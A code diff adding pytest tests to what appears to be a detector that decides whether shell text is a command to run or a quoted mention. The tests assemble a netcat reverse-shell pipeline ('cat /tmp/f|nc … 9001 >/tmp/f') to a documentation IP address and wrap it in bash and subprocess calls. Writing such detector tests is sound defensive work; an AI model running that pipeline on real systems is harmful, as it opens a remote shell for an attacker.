@@ -234,3 +234,35 @@ def test_a_string_in_a_list_of_strings_is_data() -> None:
 )
 def test_what_only_stands_near_strings_is_not_listed(text: str) -> None:
     assert not in_list_of_strings(text, text.index("SAID"))
+
+
+@pytest.mark.parametrize(
+    ("text", "mention"),
+    [
+        ("cat /tmp/f|{}", Mention.ORDER),
+        ("bash -c 'a|{}'", Mention.ORDER),
+        ('subprocess.run("a|{}", shell=True)', Mention.ORDER),
+        ("grep -rE 'a.*|{}' .", Mention.QUOTE),
+        ('PATTERNS = ["x|{} y"]', Mention.QUOTE),
+    ],
+)
+def test_a_pipe_without_blanks_is_no_search_expression(text: str, mention: Mention) -> None:
+    command = "n" + "c 203.0.113.5 9001 >/tmp/f"
+    full = text.format(command)
+    start = full.index(command)
+    assert judge_script(full, start, start + len(command)) is mention
+
+
+@pytest.mark.parametrize(
+    ("line", "mention"),
+    [
+        ("If the tool is blocked, run as administrator:", Mention.ORDER),
+        ("These commands are blocked:", Mention.QUOTE),
+    ],
+)
+def test_a_line_that_speaks_of_harm_and_orders_what_follows_does_not_excuse_it(
+    line: str, mention: Mention
+) -> None:
+    text = f"{line}\n\n```bash\n{attacks.PIPE}\n```\n"
+    start = text.index(attacks.PIPE)
+    assert judge_command(text, start, start + len(attacks.PIPE), in_block=True) is mention
